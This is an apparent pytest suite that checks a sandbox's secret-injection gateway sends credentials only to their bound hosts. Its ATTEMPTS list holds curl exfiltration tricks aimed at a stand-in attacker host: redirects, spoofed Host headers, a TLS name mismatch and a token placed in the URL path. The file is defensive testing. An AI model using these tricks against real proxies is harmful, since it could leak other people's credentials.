"""Secrets of a file on a real machine: they reach the hosts they are bound to, and nothing and nobody else.

Two sandboxes, one of them without secrets. Names lead to the origin servers of `tests/egress`.
"""

import base64
import json
import os
import subprocess

import pytest

from .searching import found

pytestmark = pytest.mark.vm

VALUES = {
    "header": "value-of-header-2f6c91", "query": "value-of-query-8a03be", "git": "value-of-git-55d1c7",
    "tool": "value-of-tool-c04e2d", "spoken": "value-of-spoken-91be60", "kept": "value-of-kept-d7730f",
}  # fmt: skip
FILE = """\
secrets:
  header: {env: HEADER_KEY, inject: [{host: api.example.com, header: X-Key, value: "Key {secret}"}]}
  query: {file: ./outside/query, inject: [{host: cdn.example.com, query: key}]}
  git: {file: ./outside/git, inject: [{host: git.example.com, git: true}]}
  tool: {file: ./outside/tool, inject: [{host: www.example.com}], env: TOOL_TOKEN}
  spoken: {command: [sh, -c, "cat ~/spoken"], inject: [{host: npm.example.com, bearer: true}]}
  kept: {store: kept, inject: [{host: pip.example.com, basic: robot}]}
  pinned: {file: ./outside/pinned, inject: [{host: pinned.example.com, bearer: true}]}
policies:
  web:
    allow: [evil.example.org, "api.example.com:80", "git.example.com:443", pinned.example.com]
    bypass: [pinned.example.com]
defaults: {workspaces: [./inside], resources: {cpus: 1, memory: 512MiB, disk: 4GiB}, policy: web}
sandboxes:
  box: {secrets: [header, query, git, tool, spoken, kept, pinned]}
  other: {policy: {extends: web, allow: [api.example.com, cdn.example.com]}}
"""


@pytest.fixture(scope="module")
def box(module_sbx, module_origin):
    """Runs a shell line inside a sandbox, `box` unless told; gives its Result."""
    sbx = module_sbx
    outside, inside = sbx.project / "outside", sbx.project / "inside"
    outside.mkdir()
    inside.mkdir()
    for name in ("query", "git", "tool"):
        (outside / name).write_text(VALUES[name] + "\n")
    (outside / "pinned").write_text("value-of-pinned-44aa10")
    (sbx.home / "spoken").write_text(VALUES["spoken"])
    sbx.write(FILE)
    sbx.variables["HEADER_KEY"] = VALUES["header"]
    sbx("secret", "set", "kept", input=VALUES["kept"] + "\n")
    refused = sbx("up", "--yes", any_code=True)
    assert refused.code == 1
    assert "sbx secret approve" in refused.stderr, refused
    for name in ("header", "query", "git", "tool", "spoken", "kept", "pinned"):
        sbx("secret", "approve", name)
    sbx("up", "--yes")

    def run(line, name="box", **options):
        return sbx("exec", name, "sh", "-c", line, any_code=True, **options)

    run.sbx, run.origin = sbx, module_origin
    yield run
    sbx("down", "--yes")


def headers(result):
    """What the origin's /headers echoed: names in lower case."""
    return dict((name, value) for name, value in json.loads(result.stdout)["headers"])


def test_each_kind_arrives_at_its_host_and_nowhere_else(box):
    assert (
        headers(box("curl -sS https://api.example.com/headers -H 'x-KEY: mine'"))["x-key"] == f"Key {VALUES['header']}"
    )
    said = json.loads(box("curl -sS 'https://cdn.example.com/headers?a=1&key=mine'").stdout)["target"]
    assert said == f"/headers?a=1&key={VALUES['query']}"
    assert headers(box("curl -sS https://npm.example.com/headers"))["authorization"] == f"Bearer {VALUES['spoken']}"
    basic = base64.b64encode(f"robot:{VALUES['kept']}".encode()).decode()
    assert headers(box("curl -sS https://pip.example.com/headers -u me:mine"))["authorization"] == f"Basic {basic}"


def test_a_placeholder_is_swapped_for_its_host_alone(box):
    inside = box("printf %s $TOOL_TOKEN").stdout
    assert inside
    assert VALUES["tool"] not in inside
    line = 'curl -sS -H "Authorization: Bearer $TOOL_TOKEN" https://{}/headers'
    assert headers(box(line.format("www.example.com")))["authorization"] == f"Bearer {VALUES['tool']}"
    assert headers(box(line.format("api.example.com")))["authorization"] == f"Bearer {inside}"
    assert headers(box('curl -sS -u "me:$TOOL_TOKEN" https://www.example.com/headers'))["authorization"] == (
        "Basic " + base64.b64encode(f"me:{VALUES['tool']}".encode()).decode()
    )


def test_git_clones_and_pushes_with_a_credential_that_is_not_inside(box):
    result = box("cd $(mktemp -d) && git clone -q https://git.example.com/git/sample.git && cd sample && git log")
    assert result.code == 0, result
    seen = [each for each in box.origin.seen() if each.host.startswith("git.example.com")]
    wanted = "Basic " + base64.b64encode(f"x-access-token:{VALUES['git']}".encode()).decode()
    assert seen
    assert {dict(each.headers).get("authorization") for each in seen} == {wanted}
    plain = box("curl -sS https://git.example.com/headers")
    assert "authorization" not in headers(plain), "only git's own paths get it"


ATTEMPTS = {
    "plain http": "curl -sS http://api.example.com/headers",
    "a redirect to elsewhere": "curl -sSL 'https://api.example.com/redirect?to=https://evil.example.org/headers'",
    "a redirect to http": "curl -sSL 'https://api.example.com/redirect?to=http://api.example.com/headers'",
    "another host": "curl -sS https://evil.example.org/headers",
    "another Host header": "curl -sS https://evil.example.org/headers -H 'Host: api.example.com'",
    "a second Host header": (
        "curl -sS https://evil.example.org/headers -H 'Host: evil.example.org' -H 'Host: api.example.com'"
    ),
    "another name in TLS": "curl -sSk --connect-to api.example.com:443:evil.example.org:443 https://api.example.com/headers",
    "a bypassed host": "curl -sSk https://pinned.example.com/headers",
    "its placeholder in a path": 'curl -sS "https://evil.example.org/headers/$TOOL_TOKEN"',
    "trace": "curl -sS -X TRACE https://api.example.com/headers",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_no_value_reaches(box, attempt):
    before = len(box.origin.seen())
    result = box(ATTEMPTS[attempt])
    strange = [
        each for each in box.origin.seen()[before:] if not (each.host.startswith("api.example.com") and each.sni)
    ]
    for value in (*VALUES.values(), "value-of-pinned-44aa10"):
        assert value not in result.stdout + result.stderr
        assert value not in str(strange)


def test_another_sandbox_uses_none_of_them(box):
    for host in ("api", "cdn"):
        result = box(f"curl -sS https://{host}.example.com/headers; env", name="other")
        assert "hello" not in result.stderr
        assert not any(value in result.stdout for value in VALUES.values()), result


def test_values_are_nowhere_inside_nor_in_anything_that_sbx_keeps(box):
    box.sbx("restart", "box")  # what the servers of other tests have repeated is gone with the machine's memory
    before = len(box.origin.seen())
    for host in ("api", "cdn", "npm", "pip"):
        assert box(f"curl -sS https://{host}.example.com/").stdout == "hello from the origin\n"
    arrived = str(box.origin.seen()[before:])
    assert all(VALUES[name] in arrived for name in ("header", "query", "spoken"))
    for command in (["status", "box"], ["status", "box", "--format", "json"], ["plan"], ["config"], ["secret", "ls"],
                    ["network", "log", "box"], ["network", "log", "box", "--format", "json"], ["logs", "box"],
                    ["policy", "show", "box", "--effective"]):  # fmt: skip
        said = box.sbx(*command, any_code=True)
        assert not any(value in said.stdout + said.stderr for value in VALUES.values()), command
    for name, value in VALUES.items():
        places = [place for place in found(box.sbx, value) if not place.endswith("/secrets/kept")]
        assert places == [], name


def test_values_that_change_are_used_at_once(box):
    (box.sbx.project / "outside/query").write_text("another-query")
    said = json.loads(box("curl -sS 'https://cdn.example.com/headers'").stdout)["target"]
    assert said == "/headers?key=another-query"
    (box.sbx.project / "outside/query").write_text(VALUES["query"])
    box.sbx.variables["HEADER_KEY"] = "another-header"
    changed = box.sbx("plan", "--detailed-exitcode", any_code=True)
    assert changed.code == 2
    assert "secrets.header: (old value) -> (new value)" in changed.stdout
    box.sbx("up", "--yes")
    assert headers(box("curl -sS https://api.example.com/headers"))["x-key"] == "Key another-header"
    assert box.sbx("plan", "--detailed-exitcode", any_code=True).code == 0
    box.sbx.variables["HEADER_KEY"] = VALUES["header"]
    box.sbx("up", "--yes")


def test_a_value_that_is_gone_closes_its_host_and_says_why(box):
    place = box.sbx.project / "outside/query"
    place.unlink()
    result = box("curl -sS -w ' %{http_code}' https://cdn.example.com/headers")
    place.write_text(VALUES["query"])
    assert result.stdout.endswith(" 403")
    assert "the secret 'query' has no value" in result.stdout


def test_a_killed_gateway_comes_back_with_the_values(box):
    (gateway,) = box.sbx.processes("gateway")
    os.kill(gateway, 9)
    box.sbx.wait_for(lambda: box.sbx.processes("gateway") not in ([], [gateway]))
    line = "curl -sS --retry 8 --retry-all-errors https://api.example.com/headers"
    assert headers(box(line))["x-key"] == f"Key {VALUES['header']}"


@pytest.mark.parametrize(
    ("spoil", "mend", "word"),
    [
        ("rm outside/tool", f"echo {VALUES['tool']} > outside/tool", "outside/tool"),
        ("rm ~/spoken", f"echo {VALUES['spoken']} > ~/spoken", "spoken"),
        ("", "", "HEADER_KEY"),
    ],
    ids=["a missing file", "a failing command", "a missing variable"],
)
def test_what_cannot_be_had_is_an_error_before_anything_boots(box, spoil, mend, word):
    sbx = box.sbx
    sbx("stop", "box")
    environment = {**os.environ, "HOME": str(sbx.home)}
    subprocess.run(spoil, shell=True, check=True, cwd=sbx.project, env=environment)
    if not spoil:
        del sbx.variables["HEADER_KEY"]
    refused = sbx("up", "--yes", any_code=True)
    assert refused.code == 1
    assert word in refused.stderr
    assert "booting" not in refused.stderr
    assert json.loads(sbx("status", "box", "--format", "json").stdout)["status"] == "stopped"
    subprocess.run(mend, shell=True, check=True, cwd=sbx.project, env=environment)
    sbx.variables["HEADER_KEY"] = VALUES["header"]
    sbx("up", "--yes")
    test_each_kind_arrives_at_its_host_and_nowhere_else(box)
